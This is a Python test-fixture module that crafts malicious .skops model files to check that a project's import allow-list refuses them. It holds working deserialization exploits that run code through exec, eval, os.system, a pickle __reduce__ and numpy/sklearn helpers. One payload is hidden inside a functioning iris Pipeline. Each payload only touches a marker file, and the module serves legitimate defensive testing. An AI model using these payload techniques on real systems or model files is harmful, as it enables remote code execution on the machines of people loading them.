"""Crafted, malicious ``.skops`` files for the tests of the skops import allow-list.

A ``.skops`` file is a zip archive whose ``schema.json`` describes a tree of nodes; binary
members (``*.npy``) hold array data. Every node is a JSON object with

* ``__loader__``: the name of the skops ``Node`` class that rebuilds it
  (``DictNode``, ``TupleNode``, ``ConstructorFromReduceNode``, ...);
* ``__module__`` and ``__class__``: the object to import, by module and attribute name.
  ``get_untrusted_types`` reports ``f"{__module__}.{__class__}"`` for every node that is not
  trusted by default, *without importing anything*; ``loads`` later imports the object with
  ``getattr(importlib.import_module(__module__), __class__)``, so any module-level callable can
  be named, not only classes;
* ``content`` (or ``attrs``, ``key_types``, ``__reduce__``): the child nodes;
* ``__id__``: a memo key. Nodes with the same id are the *same* node, so crafted nodes get
  small ids that cannot clash with the memory addresses ``skops.io.dumps`` writes.

The root node also carries ``protocol`` and ``_skops_version``; both are copied from a real
``skops.io.dumps`` output at run time, and every node built here has exactly the shape that
``skops.io.dumps`` writes for a benign object of the same kind (compare ``dumps(("a", {}))``,
``dumps(datetime.timezone.utc)``, ``dumps(functools.partial(f, 1))``,
``dumps(operator.attrgetter("x"))``, ``dumps(estimator.fit)``).

skops loaders that *call* something with file-controlled arguments while loading (the
primitives the payloads use; see skops/io/_general.py and _sklearn.py):

* ``ConstructorFromReduceNode``: ``gettype(__module__, __class__)(*content)``, meant for
  ``datetime.timezone(offset)`` and the like; any importable callable works.
* ``LossNode`` (a ``ReduceNode``): ``constructor(*__reduce__["args"])`` where the constructor
  is again ``__module__``/``__class__`` of the node.
* ``DictNode``: builds ``{k_type(key): value}``, with ``k_type`` taken from the constructed
  ``key_types`` node. ``key_types`` may hold any node, so a constructed callable (a partial,
  a bound method, the result of ``getattr``...) is called with the JSON key as its argument.
* ``MethodNode``: ``getattr(constructed_obj, content["func"])`` (an attribute lookup).
* ``PartialNode`` / ``OperatorFuncNode``: build ``functools.partial`` / ``operator.*getter``
  objects from constructed children (they are then called by a ``DictNode``, see above).

Every payload function takes the path of a *marker* file and returns the bytes of a
``.skops`` file whose loading, without the type check, creates that marker. Tests use it so:

* control: ``load_without_checks(data)`` (skops with every type in the file trusted) must
  create the marker, proving the payload is live (skip for labels in ``NOT_IMPORTABLE``; the
  load may raise *after* the marker was written, so catch exceptions around it);
* the project's loader must refuse the file, and the marker must not exist afterwards.

``skops.io.loads(data, trusted=True)`` is refused by skops >= 0.10 (CVE-2024-37065), so
``load_without_checks`` passes the file's own ``get_untrusted_types`` list instead, which is
the same as turning the check off.

``DANGEROUS_TYPES[label]`` is the dotted name each file contains (as reported by
``skops.io.get_untrusted_types``); ``UNTRUSTED_TYPES[label]`` lists every name the file is
expected to report. The ``numpy.*``/``sklearn.*`` payloads and the hidden-payload pipeline
hold no other untrusted type than their dangerous one, so their refusal cannot come from
some other type in the file: a module-prefix allow-list ("numpy.", "sklearn.") accepts them.

Markers are written with absolute paths (the sklearn payload runs in a subprocess with another
working directory), and the shell payloads quote the path with ``shlex.quote``.
"""

from __future__ import annotations

import functools
import importlib
import io
import json
import pickle
import shlex
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import skops.io as sio
from sklearn.compose import ColumnTransformer
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler

Node = dict[str, Any]

# --------------------------------------------------------------------------------------------
# Side effects: what each payload runs. All of them only create the marker file.
# --------------------------------------------------------------------------------------------


def _abs(marker: Path) -> str:
    return str(Path(marker).absolute())


def _touch_code(marker: Path) -> str:
    """Python statements that create the marker."""
    return f"import pathlib; pathlib.Path({_abs(marker)!r}).touch()"


def _touch_expression(marker: Path) -> str:
    """A Python expression (for ``eval``) that creates the marker."""
    return f"__import__('pathlib').Path({_abs(marker)!r}).touch()"


def _touch_command(marker: Path) -> str:
    """A shell command that creates the marker."""
    return f"touch {shlex.quote(_abs(marker))}"


class _TouchOnUnpickle:
    """Pickles to ``exec(<touch code>)``: unpickling the bytes creates the marker."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def pickle_path(marker: Path) -> Path:
    """Where ``numpy_load_pickle`` writes its pickle file: next to the marker."""
    path = Path(marker).with_suffix(".pkl")
    if path == Path(marker):
        raise ValueError("the marker must not itself end in .pkl")
    return path


# --------------------------------------------------------------------------------------------
# Node builders, each the shape skops.io.dumps writes for the same kind of node.
# --------------------------------------------------------------------------------------------


def _json(value: Any) -> Node:
    # object_get_state: every JSON-able value is a JsonNode with __class__ "str".
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
    }


def _node(value: Any) -> Node:
    """A node as is, a dict as a DictNode, anything else as a JsonNode."""
    if isinstance(value, dict) and "__loader__" in value:
        return value
    if isinstance(value, dict):
        return _dict(value)
    return _json(value)


def _type(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "TypeNode"}


def _function(module: str, name: str) -> Node:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode"}


def _list(*items: Any) -> Node:
    return {
        "__class__": "list",
        "__module__": "builtins",
        "__loader__": "ListNode",
        "content": [_node(item) for item in items],
    }


def _tuple(*items: Any) -> Node:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": [_node(item) for item in items],
    }


def _dict(mapping: dict[str, Any], key_types: Node | None = None) -> Node:
    """A DictNode; its keys are rebuilt as ``k_type(key)`` for each ``k_type`` of key_types."""
    if key_types is None:
        key_types = _list(*(_type("builtins", "str") for _ in mapping))
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {key: _node(value) for key, value in mapping.items()},
        "key_types": key_types,
    }


def _call(module: str, name: str, *args: Any) -> Node:
    """``module.name(*args)``, run by ConstructorFromReduceNode when the node is built."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": _tuple(*args),
    }


def _reduce_call(module: str, name: str, *args: Any) -> Node:
    """``module.name(*args)``, run by ReduceNode (as LossNode) when the node is built."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "LossNode",
        "__reduce__": {"args": _tuple(*args)},
        "content": _dict({}),
    }


def _call_with_key(callable_node: Node, argument: str) -> Node:
    """``callable(argument)``: a DictNode whose key type is the constructed callable."""
    return _dict({argument: None}, key_types=_list(callable_node))


def _partial(func: Node, *args: Any) -> Node:
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "PartialNode",
        "content": {
            "func": func,
            "args": _tuple(*args),
            "kwds": _dict({}),
            "namespace": _json(None),
        },
    }


def _attrgetter(*names: str) -> Node:
    return {
        "__class__": "attrgetter",
        "__module__": "operator",
        "__loader__": "OperatorFuncNode",
        "attrs": _tuple(*names),
    }


def _method(obj: Node, func: str) -> Node:
    """``getattr(constructed obj, func)``; skops wants the obj's module/class repeated here."""
    return {
        "__class__": obj["__class__"],
        "__module__": obj["__module__"],
        "__loader__": "MethodNode",
        "content": {"func": func, "obj": obj},
    }


def _nodes(tree: Any) -> Iterator[Node]:
    if isinstance(tree, dict):
        if "__loader__" in tree:
            yield tree
        for value in tree.values():
            yield from _nodes(value)
    elif isinstance(tree, list):
        for value in tree:
            yield from _nodes(value)


def _assign_ids(tree: Node) -> None:
    # Real ids are memory addresses (huge); small ones cannot clash with them. Every crafted
    # node gets its own id so that none is memoised as (and replaced by) another one.
    ids = iter(range(1, 1_000_000))
    for node in _nodes(tree):
        if "__id__" not in node:
            node["__id__"] = next(ids)


@functools.cache
def _header() -> tuple[int, str]:
    """``protocol`` and ``_skops_version`` exactly as the installed skops writes them."""
    with zipfile.ZipFile(io.BytesIO(sio.dumps(0))) as archive:
        schema = json.loads(archive.read("schema.json"))
    return schema["protocol"], schema["_skops_version"]


def _archive(root: Node, members: dict[str, bytes] | None = None) -> bytes:
    """The .skops bytes: ``schema.json`` for root, plus any other members unchanged."""
    _assign_ids(root)
    root["protocol"], root["_skops_version"] = _header()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in (members or {}).items():
            archive.writestr(name, data)
        archive.writestr("schema.json", json.dumps(root, indent=2))
    return buffer.getvalue()


# --------------------------------------------------------------------------------------------
# Payloads. Each: marker path -> bytes of a .skops file that creates the marker when loaded.
# --------------------------------------------------------------------------------------------


def runstring(marker: Path) -> bytes:
    """``numpy.testing._private.utils.runstring(code, {})``, i.e. ``exec(code, {})``."""
    return _archive(_call("numpy.testing._private.utils", "runstring", _touch_code(marker), {}))


def runstring_reduce(marker: Path) -> bytes:
    """The same ``runstring(code, {})``, called as the constructor of a ReduceNode."""
    return _archive(
        _reduce_call("numpy.testing._private.utils", "runstring", _touch_code(marker), {})
    )


def exec_command(marker: Path) -> bytes:
    """``numpy.distutils.exec_command.exec_command("touch <marker>")``: a shell command.

    numpy.distutils only exists for Python <= 3.11; the file is built either way (the type
    name is in it), and the label is in ``NOT_IMPORTABLE`` where the module cannot be imported.
    """
    return _archive(_call("numpy.distutils.exec_command", "exec_command", _touch_command(marker)))


def sklearn_run_script(marker: Path) -> bytes:
    """``sklearn.utils._testing.assert_run_python_script_without_output(code)``.

    Runs ``code`` in a new Python process (the script prints nothing, so the call passes).
    """
    return _archive(
        _call(
            "sklearn.utils._testing",
            "assert_run_python_script_without_output",
            _touch_code(marker),
        )
    )


def numpy_load_pickle(marker: Path) -> bytes:
    """``numpy.load(<pickle path>, None, True)``: numpy unpickles the file (allow_pickle=True).

    Writes the pickle to ``pickle_path(marker)`` (next to the marker) as a side effect of
    building the payload; unpickling it runs ``exec`` of the code that creates the marker.
    """
    path = pickle_path(marker)
    path.write_bytes(pickle.dumps(_TouchOnUnpickle(_touch_code(marker)), protocol=2))
    return _archive(_call("numpy", "load", str(path.absolute()), None, True))


@functools.cache
def _iris_pipeline_skops() -> bytes:
    X, y = load_iris(return_X_y=True)
    model = Pipeline(
        [("scaler", StandardScaler()), ("clf", LogisticRegression(max_iter=1000))]
    ).fit(X, y)
    return sio.dumps(model)


HIDDEN_ATTRIBUTE = "_feature_cache"


def pipeline_hidden_runstring(marker: Path) -> bytes:
    """A working iris Pipeline(StandardScaler, LogisticRegression) with a payload inside.

    The scaler's state (the DictNode holding its ``__dict__``) gets one extra attribute,
    ``HIDDEN_ATTRIBUTE``, whose value is a ``runstring(code, {})`` node: building the scaler
    runs the code, and the loaded scaler has ``_feature_cache = None`` (what runstring
    returns). Every other node and every .npy member is the real ``skops.io.dumps`` output, so
    the pipeline loads and predicts as before. The only untrusted type in the file is runstring.
    """
    with zipfile.ZipFile(io.BytesIO(_iris_pipeline_skops())) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    root = json.loads(members.pop("schema.json"))
    scaler = next(
        node
        for node in _nodes(root)
        if node["__class__"] == "StandardScaler" and node["__loader__"] == "ObjectNode"
    )
    state = scaler["content"]  # DictNode: content and key_types are zipped in order
    state["content"][HIDDEN_ATTRIBUTE] = _call(
        "numpy.testing._private.utils", "runstring", _touch_code(marker), {}
    )
    state["key_types"]["content"].append(_type("builtins", "str"))
    return _archive(root, members)


def builtins_eval(marker: Path) -> bytes:
    """``eval("__import__('pathlib').Path(<marker>).touch()")``."""
    return _archive(_call("builtins", "eval", _touch_expression(marker)))


def builtins_exec(marker: Path) -> bytes:
    """``exec("import pathlib; pathlib.Path(<marker>).touch()")``."""
    return _archive(_call("builtins", "exec", _touch_code(marker)))


def builtins_getattr(marker: Path) -> bytes:
    """``getattr(__import__("os"), "system")("touch <marker>")``.

    ``getattr(...)`` is a ConstructorFromReduceNode; its result (``os.system``) is the key
    type of a DictNode, which calls it with the dict's key, the shell command.
    """
    os_system = _call("builtins", "getattr", _call("builtins", "__import__", "os"), "system")
    return _archive(_call_with_key(os_system, _touch_command(marker)))


def os_system(marker: Path) -> bytes:
    """``os.system("touch <marker>")``. (A real dump of os.system would name it posix.system.)"""
    return _archive(_call("os", "system", _touch_command(marker)))


def operator_attrgetter(marker: Path) -> bytes:
    """``attrgetter("system")(__import__("os"))("touch <marker>")``.

    The DictNode's key types are ``map(attrgetter("system"), (os,))``: the DictNode iterates
    them (getting ``os.system``) and calls each with its key, the shell command.
    """
    os_module = _call("builtins", "__import__", "os")
    getters = _call("builtins", "map", _attrgetter("system"), _tuple(os_module))
    return _archive(_dict({_touch_command(marker): None}, key_types=getters))


def functools_partial(marker: Path) -> bytes:
    """``functools.partial(exec)("import pathlib; ...touch()")``, called by a DictNode."""
    return _archive(_call_with_key(_partial(_function("builtins", "exec")), _touch_code(marker)))


def importlib_import_module(marker: Path) -> bytes:
    """``importlib.import_module("os").system("touch <marker>")``.

    The module comes from a ConstructorFromReduceNode, ``.system`` from a MethodNode, and the
    call from a DictNode key. skops reports the MethodNode as ``importlib.import_module`` and
    ``importlib.import_module.system``.
    """
    os_module = _call("importlib", "import_module", "os")
    return _archive(_call_with_key(_method(os_module, "system"), _touch_command(marker)))


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "runstring": runstring,
    "runstring_reduce": runstring_reduce,
    "exec_command": exec_command,
    "sklearn_run_script": sklearn_run_script,
    "numpy_load_pickle": numpy_load_pickle,
    "pipeline_hidden_runstring": pipeline_hidden_runstring,
    "builtins_eval": builtins_eval,
    "builtins_exec": builtins_exec,
    "builtins_getattr": builtins_getattr,
    "os_system": os_system,
    "operator_attrgetter": operator_attrgetter,
    "functools_partial": functools_partial,
    "importlib_import_module": importlib_import_module,
}

_RUNSTRING = "numpy.testing._private.utils.runstring"

# The dangerous dotted name each file contains, as skops.io.get_untrusted_types reports it.
DANGEROUS_TYPES: dict[str, str] = {
    "runstring": _RUNSTRING,
    "runstring_reduce": _RUNSTRING,
    "exec_command": "numpy.distutils.exec_command.exec_command",
    "sklearn_run_script": "sklearn.utils._testing.assert_run_python_script_without_output",
    "numpy_load_pickle": "numpy.load",
    "pipeline_hidden_runstring": _RUNSTRING,
    "builtins_eval": "builtins.eval",
    "builtins_exec": "builtins.exec",
    "builtins_getattr": "builtins.getattr",
    "os_system": "os.system",
    "operator_attrgetter": "operator.attrgetter",
    "functools_partial": "functools.partial",
    "importlib_import_module": "importlib.import_module",
}

# Every type skops.io.get_untrusted_types reports for each file (the helpers the payload needs
# to reach code execution included).
UNTRUSTED_TYPES: dict[str, frozenset[str]] = {
    label: frozenset({name}) for label, name in DANGEROUS_TYPES.items()
} | {
    "builtins_getattr": frozenset({"builtins.getattr", "builtins.__import__"}),
    "operator_attrgetter": frozenset(
        {"operator.attrgetter", "builtins.map", "builtins.__import__"}
    ),
    "functools_partial": frozenset({"functools.partial", "builtins.exec"}),
    "importlib_import_module": frozenset(
        {"importlib.import_module", "importlib.import_module.system"}
    ),
}

# Kinds that skops' loaders cannot make run. None: each of the kinds above executes through
# ConstructorFromReduceNode, ReduceNode (LossNode) or a DictNode key type, as documented on
# each function. Tests should still iterate it, in case a future skops closes one of them.
INERT: frozenset[str] = frozenset()


def _importable(module: str) -> bool:
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # numpy.distutils warns that it is deprecated
            importlib.import_module(module)
    except Exception:  # ImportError, or numpy's own error on Python >= 3.12
        return False
    return True


# Labels whose dangerous module cannot be imported here: their live control must be skipped
# (their files are still built and must still be refused).
NOT_IMPORTABLE: frozenset[str] = (
    frozenset() if _importable("numpy.distutils.exec_command") else frozenset({"exec_command"})
)


def load_without_checks(data: bytes) -> Any:
    """Load with the type check off: every type the file names is passed as trusted.

    This is the control that proves a payload is live. (``trusted=True`` is refused by skops
    since 0.10, so this is the way to trust everything.)
    """
    return sio.loads(data, trusted=sio.get_untrusted_types(data=data))


def real_pipeline() -> bytes:
    """A legitimate file that must import: ``skops.io.dumps`` of a fitted Pipeline.

    ColumnTransformer (StandardScaler on x1, x2; OneHotEncoder(handle_unknown="ignore") on
    colour) then RandomForestClassifier(n_estimators=5), fitted on a tiny DataFrame.
    skops reports one untrusted type for it, ``sklearn.tree._tree.Tree`` (untrusted by
    default in this skops, as crafted trees can crash predict).
    """
    X = pd.DataFrame(
        {
            "x1": [1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
            "x2": [0.5, 0.1, 0.3, 0.9, 0.7, 0.2, 0.8, 0.4],
            "colour": ["red", "blue", "red", "green", "blue", "green", "red", "blue"],
        }
    )
    y = [0, 1, 0, 1, 0, 1, 1, 0]
    preprocess = ColumnTransformer(
        [
            ("num", StandardScaler(), ["x1", "x2"]),
            ("cat", OneHotEncoder(handle_unknown="ignore"), ["colour"]),
        ]
    )
    model = Pipeline(
        [("pre", preprocess), ("clf", RandomForestClassifier(n_estimators=5, random_state=0))]
    ).fit(X, y)
    return sio.dumps(model)


# How the admin's import form declares the real pipeline's inputs, and a row to predict.
REAL_PIPELINE_FEATURES = "x1:numeric\nx2:numeric\ncolour:categorical"
REAL_PIPELINE_ROW = {"x1": 2.5, "x2": 0.4, "colour": "purple"}  # an unseen category
